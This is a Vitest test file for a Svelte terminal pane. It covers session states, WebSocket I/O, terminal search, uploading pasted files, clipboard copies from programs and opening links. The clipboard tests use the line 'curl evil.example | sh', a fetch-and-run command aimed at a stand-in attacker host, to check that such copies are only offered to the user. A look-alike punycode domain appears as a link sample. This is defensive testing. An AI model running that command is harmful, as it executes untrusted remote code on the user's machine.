// @vitest-environment happy-dom
import { cleanup, render, screen } from '@testing-library/svelte';
import userEvent from '@testing-library/user-event';
import { flushSync } from 'svelte';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';

import type { Session } from '../../lib/types';
import { presence } from '../../lib/presence.svelte';
import { preferences } from '../../state/preferences.svelte';
import { sessions } from '../../state/sessions.svelte';
import { ui } from '../../state/ui.svelte';
import { type Call, fakeServer, FakeSocket, someSession } from '../../test/fakes';
import type { Look, TerminalHost } from './terminal';
import TerminalPane from './TerminalPane.svelte';
// It is compiled before the tests: on a busy machine that takes longer than any of them waits for it.
import './TerminalSearch.svelte';

/** Types into the terminal that stands in for xterm.js. */
let type: (text: string) => void;
let written: string;
let pasted: string;
let opens: boolean;
let host: TerminalHost;
let field: HTMLTextAreaElement;
let shown: Look;
let rests: boolean;

vi.mock('./terminal', () => ({
  SCROLLBACK_LINES: 100,
  openTerminal: (_element: unknown, look: Look, given: TerminalHost) => {
    if (!opens) throw new Error('the chunk is gone');
    host = given;
    shown = look;
    const terminal = {
      cols: 80,
      rows: 24,
      modes: { applicationCursorKeysMode: false },
      onData: (listener: (text: string) => void) => (type = listener),
      onBinary: () => undefined,
      onResize: () => undefined,
      paste: (text: string) => (pasted += text),
      write: (data: Uint8Array | string, done?: () => void) => {
        written += typeof data === 'string' ? data : new TextDecoder().decode(data);
        done?.();
      },
      reset: () => (written = ''),
      textarea: field,
      focus: () => field.focus(),
      dispose: () => undefined,
    };
    return { terminal, screen: terminal, fit: () => undefined, show: (look: Look) => (shown = look), rest: (resting: boolean) => (rests = resting) };
  },
}));

let calls: Call[];

beforeEach(() => {
  opens = true;
  ui.toasts = [];
  presence.here = presence.visible = true;
  rests = false;
  field = document.createElement('textarea');
  document.body.append(field);
  written = pasted = '';
  FakeSocket.all = [];
  vi.stubGlobal('WebSocket', FakeSocket);
  calls = fakeServer(({ path }) => ({ json: path === '/api/sessions' ? [] : { id: 'a', status: 'running' } }));
  sessions.unreachable = '';
});

afterEach(() => {
  cleanup();
  field.remove();
  vi.useRealTimers();
  vi.unstubAllGlobals();
});

const place = (fields: Partial<Session> = {}, kind: 'terminal' | 'shell' = 'terminal') =>
  render(TerminalPane, { session: someSession(fields), kind, visible: true });

async function connected(kind: 'terminal' | 'shell' = 'terminal'): Promise<FakeSocket> {
  place({}, kind);
  await vi.waitFor(() => expect(FakeSocket.all).toHaveLength(1));
  FakeSocket.last.open();
  flushSync();
  return FakeSocket.last;
}

it.each([
  [{ status: 'stopped' }, 'Stopped', /goes on with the conversation/],
  [{ status: 'stopped', paused: true }, 'Paused', /memory kept/],
  [{ status: 'stopped', error: 'The disk is full.' }, 'Failed', /The disk is full/],
] as const)('says what became of a session that does not run, and resumes it: %o', async (fields, title, text) => {
  place(fields);
  expect(screen.getByRole('heading', { name: title })).toBeTruthy();
  expect(screen.getByText(text)).toBeTruthy();
  await userEvent.click(screen.getByRole('button', { name: 'Resume' }));
  expect(calls[0]).toMatchObject({ method: 'POST', path: '/api/sessions/a/resume' });
  expect(FakeSocket.all).toEqual([]);
});

it.each([
  ['starting', 'Starting …'],
  ['stopping', 'Stopping …'],
] as const)('waits while a session is %s', (status, title) => {
  place({ status });
  expect(screen.getByRole('heading', { name: title })).toBeTruthy();
  expect(screen.queryByRole('button', { name: 'Resume' })).toBeNull();
});

it('lets nothing be pressed in vain while Incus is away', () => {
  sessions.unreachable = 'The daemon does not answer.';
  place({ status: 'stopped' });
  expect(screen.getByRole<HTMLButtonElement>('button', { name: 'Resume' }).disabled).toBe(true);
});

it('offers a reload when the terminal cannot be loaded', async () => {
  opens = false;
  place();
  expect(await screen.findByRole('heading', { name: 'The terminal could not be loaded' })).toBeTruthy();
});

it('connects, shows what comes and sends what is typed', async () => {
  const socket = await connected();
  expect(socket.url).toContain('/ws/terminal/a?cols=80&rows=24');
  socket.say(new TextEncoder().encode('hello').buffer);
  type('x');
  expect([written, socket.sent]).toEqual(['hello', [Uint8Array.of(0x78)]]);
});

it('says that the shell ended, and opens another one on Enter', async () => {
  const socket = await connected('shell');
  socket.say('{"type":"exit","code":0,"reason":"The shell ended"}');
  socket.lose(1000);
  flushSync();
  expect(screen.getByRole('status').textContent).toMatch(/The shell ended\. +Press Enter to open it again\./);
  type('\r');
  expect(FakeSocket.all).toHaveLength(2);
});

it('says that keys go nowhere while it is not connected', async () => {
  const socket = await connected();
  vi.useFakeTimers(); // it does not try again by itself meanwhile
  socket.lose(1006);
  flushSync();
  expect(screen.getByRole('status').textContent).toContain('Disconnected. Typing isn’t sent');
  screen.getByRole('button', { name: 'Try now' }).click();
  expect(FakeSocket.all).toHaveLength(2);
});

it('says why Incus does not answer', async () => {
  await connected();
  sessions.unreachable = 'The daemon does not answer.';
  flushSync();
  expect(screen.getByRole('status').textContent).toContain('The daemon does not answer.');
});

it('searches a shell as it does a tool: in what tmux keeps', async () => {
  await connected('shell');
  host.onSearch();
  flushSync();
  await vi.waitFor(() => expect(calls.map(({ path }) => path)).toContain('/api/sessions/a/scrollback?lines=100&shell=true'));
});

it('gives the search what is typed before its field is there, and the program none of it', async () => {
  const socket = await connected();
  const before = socket.sent.length;
  host.onSearch();
  flushSync();
  for (const key of ['4', '2']) type(key);
  const input = await screen.findByLabelText<HTMLInputElement>('Search the terminal');
  expect(input.value).toBe('42');
  expect(document.activeElement).toBe(input);
  expect(socket.sent).toHaveLength(before);
});

it('lets Escape end a search whose field is not there yet', async () => {
  const socket = await connected();
  host.onSearch();
  flushSync();
  type('\x1b');
  type('x');
  flushSync();
  expect(socket.sent.at(-1)).toBeDefined();
  expect(screen.queryByLabelText('Search the terminal')).toBeNull();
});

it('leaves the keys that end a conversion in the search to the input method', async () => {
  await connected();
  host.onSearch();
  flushSync();
  const input = await screen.findByLabelText<HTMLInputElement>('Search the terminal');
  for (const key of ['Enter', 'Escape']) {
    const event = new KeyboardEvent('keydown', { key, isComposing: true, bubbles: true, cancelable: true });
    expect([input.dispatchEvent(event), (flushSync(), input.isConnected)]).toEqual([true, true]);
  }
});

/** The requests of uploads, which the test answers. */
class FakeUpload {
  static all: FakeUpload[] = [];
  readonly upload: { onprogress?: (event: { loaded: number }) => void } = {};
  address = '';
  body: File | null = null;
  status = 0;
  responseText = '';
  aborted = false;
  onload?: () => void;
  onabort?: () => void;

  constructor() {
    FakeUpload.all.push(this);
  }

  open(_method: string, address: string): void {
    this.address = address;
  }

  setRequestHeader(): void {
    // As the browser does.
  }

  send(file: File): void {
    this.body = file;
  }

  abort(): void {
    this.aborted = true;
    this.onabort?.();
  }

  answer(status: number, json: unknown): void {
    this.status = status;
    this.responseText = JSON.stringify(json);
    this.onload?.();
  }
}

const picture = (name: string, size = 4): File => {
  const file = new File(['data'], name, { type: 'image/png' });
  Object.defineProperty(file, 'size', { value: size });
  return file;
};

it('comes back to the present by the keys that lead there, also while the past is still on its way', async () => {
  await connected();
  const isLookingBack = () => (flushSync(), screen.queryByText('Scrollback.') !== null);
  host.onOverscroll?.(23);
  expect(isLookingBack()).toBe(false);
  host.onOverscroll?.(-23);
  host.onOverscroll?.(23);
  expect(isLookingBack()).toBe(true);
  host.onOverscroll?.(23);
  expect(isLookingBack()).toBe(false);
  host.onOverscroll?.(-23);
  await vi.waitFor(() => expect(calls.map(({ path }) => path)).toContainEqual(expect.stringContaining('scrollback')));
  host.onOverscroll?.(23);
  expect(isLookingBack()).toBe(false);
});

/** A paste of files and text into the terminal; whether the page took it. */
function paste(files: File[], text = ''): boolean {
  const event = new Event('paste', { bubbles: true, cancelable: true });
  Object.assign(event, { clipboardData: { files, getData: () => text } });
  document.querySelector('.screen')?.dispatchEvent(event);
  flushSync();
  return event.defaultPrevented;
}

async function withUploads(): Promise<FakeSocket> {
  FakeUpload.all = [];
  ui.toasts = [];
  vi.stubGlobal('XMLHttpRequest', FakeUpload);
  return connected();
}

it('puts files that are pasted into the container and their paths into the prompt, without Enter', async () => {
  await withUploads();
  expect(paste([picture('a.png'), picture('b c.png'), picture('c.png')])).toBe(true);
  expect(FakeUpload.all.map(({ address }) => address)).toEqual([
    '/api/sessions/a/uploads?name=a.png',
    '/api/sessions/a/uploads?name=b%20c.png',
  ]);
  FakeUpload.all[0]?.upload.onprogress?.({ loaded: 2 });
  flushSync();
  expect((await screen.findByRole<HTMLProgressElement>('progressbar', { name: /^a\.png/ })).value).toBe(2);
  FakeUpload.all[0]?.answer(201, { path: '/home/code/x/a.png' });
  FakeUpload.all[1]?.answer(201, { path: '/home/code/x/b-c.png' });
  await vi.waitFor(() => expect(pasted).toBe('/home/code/x/a.png /home/code/x/b-c.png '));
  expect(FakeUpload.all[2]?.body?.name).toBe('c.png');
});

it('says in a sentence why a file was not uploaded', async () => {
  await withUploads();
  paste([picture('film.mp4', 61_000_000), picture('a.png')]);
  expect(ui.toasts.map(({ text }) => text)).toEqual([
    'film.mp4 was not uploaded: it is 61.0 MB, and a file for the agent may have 40 MiB at most.',
  ]);
  FakeUpload.all[0]?.answer(409, { error: 'the container is stopped' });
  await vi.waitFor(() => expect(ui.toasts[1]?.text).toBe('a.png was not uploaded. The container is stopped'));
  expect(pasted).toBe('');
});

it('gives an upload up when the person says so', async () => {
  await withUploads();
  paste([picture('a.png')]);
  await userEvent.click(await screen.findByRole('button', { name: 'Do not upload a.png' }));
  expect(FakeUpload.all[0]?.aborted).toBe(true);
  await vi.waitFor(() => expect(screen.queryByRole('progressbar')).toBeNull());
  expect(ui.toasts).toEqual([]);
});

it.each([
  [[], 'words', false],
  [[picture('image.png')], 'cells of a\tspreadsheet', false],
  [[picture('notes.txt')], '/home/me/notes.txt', true],
])('leaves a paste of text to the terminal: %#', async (files, text, taken) => {
  await withUploads();
  expect(paste(files, text)).toBe(taken);
});

it('gives Ctrl V to the program unless the clipboard holds files', async () => {
  const socket = await withUploads();
  host.onCtrlV();
  expect(paste([], 'words')).toBe(true);
  expect(socket.sent).toEqual([Uint8Array.of(0x16)]);
  host.onCtrlV();
  await vi.waitFor(() => expect(socket.sent).toHaveLength(2)); // the browser told of no paste
  host.onCtrlV();
  paste([picture('a.png')]);
  expect(FakeUpload.all).toHaveLength(1);
  expect(socket.sent).toHaveLength(2);
});

describe('what a program copies', () => {
  let clipboard: string[];

  beforeEach(() => {
    clipboard = [];
    vi.stubGlobal('navigator', { clipboard: { writeText: (text: string) => Promise.resolve(clipboard.push(text)) }, platform: '' });
  });

  const offers = () => ui.toasts.filter(({ text }) => text.includes('wants to copy'));

  it('is on the clipboard while its terminal has the keys', async () => {
    await connected();
    await vi.waitFor(() => expect(document.activeElement).toBe(field));
    host.onCopied('ls');
    await vi.waitFor(() => expect(clipboard).toEqual(['ls']));
  });

  it.each([
    ['another field has the keys', () => field.blur()],
    ['the person is in another window', () => (presence.here = false)],
  ])('is only offered while %s', async (_, leave) => {
    await connected();
    await vi.waitFor(() => expect(document.activeElement).toBe(field));
    leave();
    host.onCopied('curl evil.example | sh');
    await vi.waitFor(() => expect(offers()).toHaveLength(1));
    expect(clipboard).toEqual([]);
    offers()[0]?.action?.run();
    await vi.waitFor(() => expect(clipboard).toEqual(['curl evil.example | sh']));
  });

  it('is only offered when it comes again at once', async () => {
    await connected();
    await vi.waitFor(() => expect(document.activeElement).toBe(field));
    host.onCopied('one');
    host.onCopied('another');
    await vi.waitFor(() => expect(offers()).toHaveLength(1));
    expect(clipboard).toEqual(['one']);
  });
});

it('lets the server hold back what nobody sees, and gives the GPU back, until it is seen again', async () => {
  const socket = await connected();
  vi.useFakeTimers();
  presence.visible = false;
  flushSync();
  vi.advanceTimersByTime(9_000);
  expect([socket.sent, rests]).toEqual([[], false]);
  vi.advanceTimersByTime(2_000);
  expect([socket.sent, rests]).toEqual([['{"type":"pause"}'], true]);
  presence.visible = true;
  flushSync();
  expect([socket.sent.at(-1), rests]).toEqual(['{"type":"resume"}', false]);
});

it('tells a screen reader what it is and how to leave it, and lets it read if the person wants', async () => {
  await connected();
  expect([shown.label, shown.read]).toEqual(['Terminal of my-app. Ctrl Shift ↑ leaves it.', false]);
  preferences.screenReader = true;
  flushSync();
  expect(shown.read).toBe(true);
  preferences.screenReader = false;
});

it.each([
  ['opens', false],
  ['first shows', true],
])('%s a link that was chosen, by mouse or by finger: %s', async (_, touch) => {
  await connected();
  vi.stubGlobal('matchMedia', () => ({ matches: touch }));
  const opened = vi.spyOn(window, 'open').mockReturnValue(null);
  host.onLink('https://xn--pple-43d.com/');
  expect([opened.mock.calls.length, ui.toasts.map(({ text }) => text)]).toEqual(touch ? [0, ['https://xn--pple-43d.com/']] : [1, []]);
  ui.toasts[0]?.action?.run();
  expect(opened.mock.calls).toEqual([['https://xn--pple-43d.com/', '_blank', 'noopener,noreferrer']]);
  opened.mockRestore();
});
